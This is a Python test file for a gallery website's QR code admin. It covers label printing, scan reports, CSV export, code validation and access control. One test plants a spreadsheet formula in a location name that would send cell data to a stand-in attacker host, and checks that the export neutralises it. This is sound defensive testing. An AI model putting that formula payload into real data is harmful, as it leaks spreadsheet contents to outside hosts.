"""QR codes in the admin: admins edit codes (never delete them), curators print an exhibition's
labels, staff read the scan report and download it as CSV; anonymous visitors get none of it."""

import csv
import io

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone, translation

import pytest

from gallery.models import QRCode, ScanCount
from gallery.models.qr_codes import ensure_code
from gallery.permissions import ensure_curator_group
from tests.gallery.qr_decoding import decode, pdf_pages

pytestmark = pytest.mark.django_db

REPORT_URL = "/admin/gallery/qr-scans/"
CODES_URL = "/admin/gallery/qr-codes/"


@pytest.fixture(autouse=True)
def in_english():
    """The tests quote the English messages; the Dutch ones come from the catalogue."""
    with translation.override("en"):
        yield


@pytest.fixture
def admin_client(client, gallery):
    user = get_user_model().objects.create_superuser(
        "beheer", "beheer@example.org", "x"
    )
    client.force_login(user)
    return client


@pytest.fixture
def curator_client(client, gallery):
    user = get_user_model().objects.create_user("curator2", "c@example.org", "x")
    user.groups.add(ensure_curator_group())
    client.force_login(user)
    return client


def test_a_curator_prints_the_labels_of_an_exhibition(curator_client, exhibit):
    url = reverse("gallery_qr_labels", args=[exhibit.exhibition.pk])
    # The button is in the exhibition's header and in the page listing's "more" menu.
    edit = curator_client.get(
        reverse("wagtailadmin_pages:edit", args=[exhibit.exhibition.pk])
    )
    assert url in edit.content.decode()
    listing = curator_client.get(
        reverse("wagtailadmin_explore", args=[exhibit.exhibition.get_parent().pk])
    )
    assert url in listing.content.decode()
    response = curator_client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "attachment" in response["Content-Disposition"]
    pdf = b"".join(response.streaming_content)
    [page] = pdf_pages(pdf)
    assert sorted(found.text for found in decode(page)) == sorted(
        ensure_code(artwork).url for artwork in (exhibit.artwork, exhibit.neighbour)
    )


def test_no_label_button_on_other_pages_and_no_labels_for_outsiders(
    client, curator_client, exhibit
):
    edit = curator_client.get(
        reverse("wagtailadmin_pages:edit", args=[exhibit.artwork.pk])
    )
    assert "qr-labels" not in edit.content.decode()
    url = reverse("gallery_qr_labels", args=[exhibit.exhibition.pk])
    client.logout()
    assert client.get(url).status_code == 302  # to the login
    # An admin user who may not edit the exhibition: Wagtail sends them to the dashboard.
    editor = get_user_model().objects.create_user("redacteur", "r@example.org", "x")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    response = client.get(url)
    assert (response.status_code, response["Location"]) == (302, "/admin/")


def test_staff_see_the_scan_report_with_charts_and_download_it_as_csv(
    curator_client, exhibit
):
    today = timezone.localdate()
    artwork_code = ensure_code(exhibit.artwork)
    spot_code = ensure_code(exhibit.spot)
    ScanCount.objects.create(qr_code=artwork_code, day=today, language="nl", count=5)
    ScanCount.objects.create(qr_code=artwork_code, day=today, language="en", count=2)
    ScanCount.objects.create(qr_code=spot_code, day=today, language="nl", count=3)
    ScanCount.objects.create(
        qr_code=spot_code, day=today, language="nl", is_bot=True, count=40
    )
    response = curator_client.get(REPORT_URL)
    assert response.status_code == 200
    page = response.content.decode()
    # The admin speaks the default language, Dutch.
    assert "Alle codes: 10 scans" in page
    assert "<svg" in page and "<rect" in page
    sections = {
        kind: {row["series"].name: row["series"].total for row in section["rows"]}
        for section in response.context["sections"]
        for kind in [section["kind"]]
    }
    assert sections == {
        "exhibition": {"Nieuwe makers 2026": 10},
        "spot": {"Stationsplein": 3},
        "artwork": {"Zendmast van licht": 7},
    }
    exported = curator_client.get(REPORT_URL, {"days": 90, "format": "csv"})
    assert exported["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert {
        (row["kind"], row["name"], row["language"], row["scans"]) for row in rows
    } == {
        ("artwork", "Zendmast van licht", "nl", "5"),
        ("artwork", "Zendmast van licht", "en", "2"),
        ("spot", "Stationsplein", "nl", "3"),
        ("exhibition", "Nieuwe makers 2026", "nl", "5"),
        ("exhibition", "Nieuwe makers 2026", "en", "2"),
        ("exhibition", "Nieuwe makers 2026", "nl", "3"),
    }
    assert all(row["day"] == today.isoformat() for row in rows)


def test_the_report_is_not_for_anonymous_visitors(client, gallery):
    response = client.get(REPORT_URL)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]
    assert client.get(REPORT_URL, {"format": "csv"}).status_code == 302


def test_the_report_reads_a_year_per_week(curator_client, gallery):
    response = curator_client.get(REPORT_URL, {"days": "365"})
    assert response.context["report"].bucket_days == 7
    assert len(response.context["report"].total.buckets) == 53
    assert curator_client.get(REPORT_URL, {"days": "7x"}).context["days"] == 30


def test_admins_make_codes_and_retire_them_but_cannot_change_or_delete_one(
    admin_client, exhibit
):
    code = ensure_code(exhibit.artwork)
    listing = admin_client.get(CODES_URL)
    assert listing.status_code == 200 and code.code in listing.content.decode()
    edit_url = f"{CODES_URL}edit/{code.pk}/"
    response = admin_client.post(
        edit_url,
        {"code": "ABC", "artwork": exhibit.artwork.pk, "spot": "", "is_retired": "on"},
    )
    assert response.status_code == 302, response.context["form"].errors
    code.refresh_from_db()
    assert code.is_retired and code.code != "ABC"  # the code itself stays
    assert admin_client.get(f"{CODES_URL}delete/{code.pk}/").status_code in (302, 403)
    assert QRCode.objects.filter(pk=code.pk).exists()
    # A chosen code for the now code-less artwork.
    response = admin_client.post(
        f"{CODES_URL}new/", {"code": "h7k", "artwork": exhibit.artwork.pk, "spot": ""}
    )
    assert response.status_code == 302, response.context["form"].errors
    assert QRCode.objects.active().for_object(exhibit.artwork).get().code == "H7K"


def test_a_code_must_use_crockfords_alphabet_and_be_free(admin_client, exhibit):
    taken = ensure_code(exhibit.artwork).code
    for typed, message in (
        ("AB", "3–6"),
        ("LOL", "without I, L, O and U"),
        ("ABCDEFG", "6"),
        (taken, "already"),
    ):
        response = admin_client.post(
            f"{CODES_URL}new/", {"code": typed, "spot": exhibit.other_spot.pk}
        )
        assert response.status_code == 200, typed
        with translation.override("en"):
            assert message in str(response.context["form"].errors), typed


def test_curators_cannot_edit_codes(curator_client, exhibit):
    assert curator_client.get(CODES_URL).status_code in (302, 403)


def test_the_csv_export_turns_formulas_in_names_into_text(curator_client, exhibit):
    """A spot named like a formula (an editor's typo or a hostile import) must not run when a
    curator opens the export in a spreadsheet."""
    exhibit.spot.name = '=HYPERLINK("http://evil.example/?"&A1,"Stationsplein")'
    exhibit.spot.save_revision().publish()
    ScanCount.objects.create(
        qr_code=ensure_code(exhibit.spot),
        day=timezone.localdate(),
        language="nl",
        count=1,
    )

    exported = curator_client.get(REPORT_URL, {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    spot_names = {row["name"] for row in rows if row["kind"] == "spot"}
    assert spot_names == {"'" + exhibit.spot.name}
